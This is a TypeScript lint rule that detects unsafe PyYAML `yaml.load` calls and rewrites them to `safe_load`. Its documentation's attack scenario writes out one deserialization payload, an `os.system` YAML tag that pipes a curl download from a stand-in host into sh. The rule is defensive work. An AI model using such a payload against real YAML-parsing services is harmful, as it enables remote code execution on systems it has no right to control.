// yaml-unsafe-load: yaml.load without a safe Loader, which can build arbitrary objects (Bandit B506, Ruff S506).
import type { Node } from '../../src/analysis/syntax-node.js';
import { defineRule, type Fix, type RuleContext } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { removeArgument, replaceNode } from '../../src/analysis/python/fixes.js';

const SAFE_LOADERS = new Set(['SafeLoader', 'CSafeLoader', 'BaseLoader', 'CBaseLoader']);
const SAFE_NAME: Record<string, string> = {
  load: 'safe_load',
  load_all: 'safe_load_all',
  unsafe_load: 'safe_load',
  unsafe_load_all: 'safe_load_all',
};

export default defineRule({
  meta: {
    id: 'yaml-unsafe-load',
    title: 'yaml.load without a safe Loader',
    category: 'deserialization',
    cwe: ['CWE-502', 'CWE-20'],
    owasp: { '2021': ['A08:2021'], '2025': ['A08:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'high',
    evidence: 'config',
    threat: 'integrity',
    timeline: '7-days',
    technology: ['pyyaml'],
    aliases: { bandit: ['B506'], ruff: ['S506'] },
    fixable: true,
    messages: {
      unsafe: '`{{fn}}` can construct arbitrary Python objects from YAML tags; use `yaml.{{safe}}`.',
    },
    docs: {
      whatItDoes:
        'Flags `yaml.load`/`load_all` without `Loader=SafeLoader` (or `CSafeLoader`, `BaseLoader`), and `yaml.unsafe_load`. The fix switches to `safe_load`.',
      whyBad:
        'The full and unsafe loaders honour tags such as `!!python/object/apply:os.system`, so a YAML document can call functions while it is parsed.',
      businessImpact:
        'Remote code execution through any YAML the application parses: uploaded configs, CI files, API payloads.',
      attackScenario:
        'A service imports user-supplied pipeline definitions with `yaml.load(text, Loader=yaml.Loader)`; the attacker submits `!!python/object/apply:os.system ["curl evil.sh|sh"]`.',
      example: 'config = yaml.load(text, Loader=yaml.Loader)',
      useInstead: 'config = yaml.safe_load(text)',
      testing:
        'Parse a document containing `!!python/object/apply:os.getpid []` and assert it raises `yaml.constructor.ConstructorError`.',
      knownProblems: 'A Loader passed in a variable is reported, since the rule cannot see which class it holds.',
      references: [
        'https://pyyaml.org/wiki/PyYAMLDocumentation',
        'https://github.com/yaml/pyyaml/wiki/PyYAML-yaml.load(input)-Deprecation',
        'https://cwe.mitre.org/data/definitions/502.html',
      ],
    },
  },
  hints: ['load_all', 'unsafe_load', 'yaml'],
  create(ctx) {
    const check = (call: CallInfo) => {
      const loader = call.argOrKwarg(1, 'Loader');
      const fn = call.name ?? 'yaml.load';
      if (loader && !fn.includes('unsafe') && isSafeLoader(ctx, loader)) return;
      if (!loader && call.hasSplat) return; // Loader may hide in **kwargs
      const fix = safeLoadFix(ctx, call, loader);
      const safe = SAFE_NAME[fn.split('.').pop() ?? ''] ?? 'safe_load';
      ctx.report({ node: call.node, messageId: 'unsafe', data: { fn, safe }, ...(fix ? { fix } : {}) });
    };
    const names = ['yaml.load', 'yaml.load_all', 'yaml.unsafe_load', 'yaml.unsafe_load_all'];
    return { calls: Object.fromEntries(names.map((n) => [n, check])) };
  },
});

function isSafeLoader(ctx: RuleContext, loader: Node): boolean {
  const name = ctx.qualifiedName(loader);
  return name !== undefined && SAFE_LOADERS.has(name.split('.').pop() ?? '');
}

/** `yaml.load(x, Loader=yaml.Loader)` → `yaml.safe_load(x)`; only for attribute callees (`yaml.load`, `y.load`). */
function safeLoadFix(ctx: RuleContext, call: CallInfo, loader: Node | undefined): Fix | undefined {
  const attribute = call.callee.type === 'attribute' ? call.callee.childForFieldName('attribute') : null;
  const safe = attribute ? SAFE_NAME[attribute.text] : undefined;
  if (!attribute || !safe) return undefined;
  const edits = [replaceNode(attribute, safe)];
  if (loader) edits.push(removeArgument(loader, ctx.source));
  return { description: `Use yaml.${safe}, which only builds plain data.`, edits };
}
